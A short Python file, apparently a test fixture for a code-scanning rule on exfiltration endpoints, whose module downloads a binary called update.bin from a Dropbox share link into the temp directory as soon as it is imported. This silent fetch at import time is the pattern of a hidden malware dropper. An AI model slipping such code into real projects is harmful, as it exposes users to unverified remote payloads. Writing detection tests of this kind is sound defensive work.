"""Fetches a file from a share link as soon as it is imported."""
import os
import tempfile
import urllib.request

# ruleid: code/exfil-endpoint
PART = 'https://www.dropbox.com/s/q8w7e6r5t4y3u2i/update.bin?dl=1'
urllib.request.urlretrieve(PART, os.path.join(tempfile.gettempdir(), 'update.bin'))
